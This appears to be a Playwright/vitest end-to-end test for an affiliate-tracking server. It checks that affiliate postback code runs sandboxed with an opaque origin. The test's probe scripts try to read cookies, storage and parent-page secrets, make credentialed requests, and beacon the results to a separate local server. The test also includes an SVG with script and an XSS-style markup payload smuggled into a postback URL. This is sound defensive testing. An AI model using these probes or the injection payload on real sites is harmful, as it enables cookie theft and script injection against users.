// Affiliate code never runs on the tracking origin (issue 14, point 5), in headless Chromium: the
// tracking server is http://127.0.0.1:PORT (the built entry), the advertiser's thank-you pages
// another site (http://localhost:PORT2), the affiliate's server a third origin
// (http://localhost:PORT3). The affiliate's browser postbacks (a script, an iframe, an image, and a
// script whose URL carries markup) are written into the thank-you page by p.ashx, as an iframe and
// as a script. The affiliate's script and iframe try to read the tracking domain's cookies, to
// make credentialed requests to the tracking domain and read the answers, and to reach the page
// around them; they report what they got to the affiliate's server. They must get nothing, and the
// postbacks must still fire.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import { DEMO, DEMO_API_KEY, demoNetwork } from '../../server/demo/network.js';
import { tempDbPath } from '../support/app.js';
import { startServer, type ServerProcess } from '../support/process.js';
import { eventually } from '../support/receiver.js';
import { describeChromium, launchChromium, stopProcess } from './support.js';

let crumb: ServerProcess | undefined;
let browser: Browser | undefined;
let context: BrowserContext | undefined;
const servers: Server[] = [];
let tracking = '';
let pages = '';
let affiliate = '';
/** What the affiliate's server was asked: its postbacks, and the reports of its code. */
const seen: URL[] = [];

/** A server on 127.0.0.1, addressed as localhost (another site than the tracking server). */
async function serve(answer: (url: URL) => { type: string; body: string; status?: number }): Promise<string> {
  const server = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://localhost');
    const { type, body, status } = answer(url);
    res.writeHead(status ?? 200, { 'content-type': type, 'cache-control': 'no-store' });
    res.end(body);
  });
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return `http://localhost:${(server.address() as AddressInfo).port}`;
}

/** The affiliate's code: every way to the tracking domain's cookies and answers, and to the page
 * around it, tried; each outcome reported as `got:…` or `threw:ErrorName`. */
function probe(from: string): string {
  return `(async function () {
  var T = ${JSON.stringify(tracking)}, A = ${JSON.stringify(affiliate)}, r = { from: ${JSON.stringify(from)}, origin: String(self.origin) };
  function attempt(name, f) { try { r[name] = 'got:' + f(); } catch (e) { r[name] = 'threw:' + e.name; } }
  async function attemptAsync(name, f) { try { r[name] = 'got:' + (await f()); } catch (e) { r[name] = 'threw:' + e.name; } }
  attempt('cookie', function () { return document.cookie; });
  attempt('storage', function () { return localStorage.length; });
  attempt('parentCookie', function () { return parent.document.cookie; });
  attempt('topCookie', function () { return top.document.cookie; });
  attempt('parentSecret', function () { return parent.advertiserSecret; });
  attempt('parentHtml', function () { return parent.document.documentElement.outerHTML.length; });
  // The JS click pixel answers the reqid held in the tracking domain's cookie to whoever reads it.
  await attemptAsync('fetchCookieReqid', async function () { return (await fetch(T + '/?a=${DEMO.affiliate}&c=${DEMO.creative}&cp=js', { credentials: 'include' })).text(); });
  await attemptAsync('fetchApi', async function () { return (await fetch(T + '/api/2/click.json?api_key=${DEMO_API_KEY}', { credentials: 'include' })).text(); });
  await attemptAsync('xhr', function () {
    return new Promise(function (resolve, reject) {
      var x = new XMLHttpRequest();
      x.open('GET', T + '/?a=${DEMO.affiliate}&c=${DEMO.creative}&cp=js');
      x.withCredentials = true;
      x.onload = function () { resolve(x.responseText); };
      x.onerror = function () { var e = new Error('xhr failed'); e.name = 'NetworkError'; reject(e); };
      x.send();
    });
  });
  new Image().src = A + '/report?' + new URLSearchParams(r);
})();`;
}

/** An SVG whose scripts report when they run: never, loaded as an image. */
function svg(c: string): string {
  const report = `${affiliate}/report?from=svg&amp;c=${encodeURIComponent(c)}`;
  return `<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1" onload="new Image().src='${report}'"><script>new Image().src='${report}&amp;by=script'</script></svg>`;
}

const reports = (from: string) => seen.filter((u) => u.pathname === '/report' && u.searchParams.get('from') === from).map((u) => Object.fromEntries(u.searchParams));

/** What the affiliate's code must have got: an opaque origin, and nothing else. */
const NOTHING = {
  origin: 'null',
  cookie: 'threw:SecurityError',
  storage: 'threw:SecurityError',
  parentCookie: 'threw:SecurityError',
  topCookie: 'threw:SecurityError',
  parentSecret: 'threw:SecurityError',
  parentHtml: 'threw:SecurityError',
  fetchCookieReqid: 'threw:TypeError',
  fetchApi: 'threw:TypeError',
  xhr: 'threw:NetworkError',
};

describeChromium('browser postbacks in Chromium: affiliate code in a sandbox with an opaque origin', () => {
  beforeAll(async () => {
    affiliate = await serve((url) => {
      seen.push(url);
      // Each report names the postback that ran it: its reqid and transaction id.
      const id = `${url.searchParams.get('c')}:${url.searchParams.get('t')}`;
      const c = url.searchParams.get('c') ?? '';
      if (url.pathname === '/aff.js') return { type: 'application/javascript', body: probe(`script:${id}`) };
      if (url.pathname === '/frame.html') return { type: 'text/html', body: `<!doctype html><script>${probe(`frame:${id}`)}</script>` };
      if (url.pathname === '/pixel.svg') return { type: 'image/svg+xml', body: svg(c) };
      return { type: 'image/gif', body: '', status: 204 };
    });
    pages = await serve((url) => {
      const reqid = url.searchParams.get('reqid') ?? '';
      const page = (body: string) => ({
        type: 'text/html',
        body: `<!doctype html><html><head><meta charset="utf-8"><title>Thanks</title></head><body>
<script>document.cookie = "advertiser_secret=S3CRET; path=/"; window.advertiserSecret = "S3CRET";</script>
<p>Thank you</p>
${body}
</body></html>`,
      });
      if (url.pathname === '/demo/landing') return page('<p>landing</p>');
      const t = encodeURIComponent(url.searchParams.get('t') ?? 'IFRAME-1');
      if (url.pathname === '/thanks-iframe') return page(`<iframe src="${tracking}/p.ashx?o=${DEMO.offer}&r=${reqid}&t=${t}" width="1" height="1"></iframe>`);
      if (url.pathname === '/thanks-js') return page(`<script src="${tracking}/p.ashx?f=js&o=${DEMO.offer}&r=${reqid}&t=JS-1"></script>`);
      return { type: 'text/plain', body: 'not found', status: 404 };
    });
    const config = join(mkdtempSync(join(tmpdir(), 'crumb-e2e-')), 'network.json');
    writeFileSync(config, JSON.stringify(demoNetwork('http://127.0.0.1', pages)));
    crumb = await startServer(['--config', config, '--db', tempDbPath()]);
    tracking = crumb.url;
    const postbacks: [number, string][] = [
      [4, `${affiliate}/aff.js?c=#reqid#&t=#tid#`],
      [2, `${affiliate}/frame.html?c=#reqid#&t=#tid#`],
      [3, `${affiliate}/pixel.svg?c=#reqid#&t=#tid#`],
      // Markup in the URL: it must reach the affiliate as sent, and change nothing on any page.
      [4, `${affiliate}/hostile.js?x="></iframe><script>top.pwned=1;parent.pwned=1</script>'&c=#reqid#&t=#tid#`],
    ];
    for (const [type, url] of postbacks) {
      const res = await fetch(`${tracking}/api/2/affiliate_postback.json`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ api_key: DEMO_API_KEY, affiliate_id: DEMO.affiliate, offer_id: DEMO.offer, postback_type_id: type, postback_url: url }),
      });
      expect(res.status).toBe(200);
    }
    browser = await launchChromium();
  });

  // A visitor of their own per journey: one click, one order (a second order of the same click
  // would be its duplicate, and fire nothing).
  beforeEach(async () => {
    await context?.close().catch(() => {});
    context = await browser!.newContext();
  });

  afterAll(async () => {
    await context?.close().catch(() => {});
    await browser?.close().catch(() => {});
    await stopProcess(crumb);
    for (const server of servers) server.close();
  });

  /** A click on the tracking link: the visitor now holds the tracking domain's cookie. */
  async function click(page: Page): Promise<string> {
    await page.goto(`${tracking}/?a=${DEMO.affiliate}&c=${DEMO.creative}`);
    const reqid = new URL(page.url()).searchParams.get('reqid')!;
    const cookies = await context!.cookies(tracking);
    expect(cookies.find((c) => c.name === `crumb_o${DEMO.offer}`)?.value).toBe(reqid);
    return reqid;
  }

  async function expectSandboxed(page: Page, reqid: string, t: string) {
    const id = `${reqid}:${t}`;
    const script = await eventually(() => reports(`script:${id}`)[0], 20_000, "the affiliate script's report");
    const frame = await eventually(() => reports(`frame:${id}`)[0], 20_000, "the affiliate iframe's report");
    // They ran (they reported), and got nothing: no cookie, no answer, no page around them.
    expect(script).toEqual({ from: `script:${id}`, ...NOTHING });
    expect(frame).toEqual({ from: `frame:${id}`, ...NOTHING });
    // Every postback fired, with its macros.
    for (const path of ['/aff.js', '/frame.html', '/pixel.svg', '/hostile.js']) {
      expect(seen.some((u) => u.pathname === path && u.searchParams.get('c') === reqid && u.searchParams.get('t') === t), `${path} for ${t}`).toBe(true);
    }
    const hostile = seen.find((u) => u.pathname === '/hostile.js' && u.searchParams.get('t') === t)!;
    expect(hostile.searchParams.get('x')).toBe(`"></iframe><script>top.pwned=1;parent.pwned=1</script>'`);
    // The page around kept its own state, and nothing was injected into it.
    expect(await page.evaluate(() => [(window as any).pwned, (window as any).advertiserSecret, document.cookie])).toEqual([undefined, 'S3CRET', 'advertiser_secret=S3CRET']);
    expect(await page.evaluate(() => document.querySelectorAll('script[src*="aff.js"], script[src*="hostile"]').length)).toBe(0);
  }

  it("the iframe answer: the affiliate's script and iframe run sandboxed, not on the tracking origin", async () => {
    const page = await context!.newPage();
    const reqid = await click(page);
    await page.goto(`${pages}/thanks-iframe?reqid=${reqid}`);
    await expectSandboxed(page, reqid, 'IFRAME-1');
    // The tracking domain's frame holds no script of its own, and no global was set in it.
    const trackingFrame = page.frames().find((f) => f.url().startsWith(`${tracking}/p.ashx`))!;
    expect(trackingFrame).toBeTruthy();
    const frameElements = await page.evaluate(() => document.querySelector('iframe')!.outerHTML);
    expect(frameElements).toContain('/p.ashx');
  });

  it("the JavaScript answer: the affiliate's code runs sandboxed, not in the advertiser's page", async () => {
    const page = await context!.newPage();
    const reqid = await click(page);
    await page.goto(`${pages}/thanks-js?reqid=${reqid}`);
    await expectSandboxed(page, reqid, 'JS-1');
    // The one frame the answer added is sandboxed to scripts alone, with its document inline.
    const frame = await page.evaluate(() => {
      const f = document.querySelector('iframe')!;
      return { sandbox: f.getAttribute('sandbox'), src: f.getAttribute('src'), srcdoc: f.hasAttribute('srcdoc') };
    });
    expect(frame).toEqual({ sandbox: 'allow-scripts', src: null, srcdoc: true });
  });

  it('image postbacks stay images: an SVG served to one runs no script, though it does as a document', async () => {
    const page = await context!.newPage();
    const reqid = await click(page);
    // An order of its own (the transaction id of the first journey's is taken).
    await page.goto(`${pages}/thanks-iframe?reqid=${reqid}&t=IFRAME-2`);
    await eventually(() => seen.some((u) => u.pathname === '/pixel.svg' && u.searchParams.get('c') === reqid), 20_000, 'the image postback');
    // The control: the same SVG opened as a document runs its scripts and reports.
    const control = await context!.newPage();
    await control.goto(`${affiliate}/pixel.svg?c=control`);
    await eventually(() => reports('svg').some((r) => r.c === 'control'), 20_000, "the control SVG's report");
    // Loaded by the thank-you page before the control ran: as an image it never reported.
    expect(reports('svg').filter((r) => r.c !== 'control')).toEqual([]);
  });
});
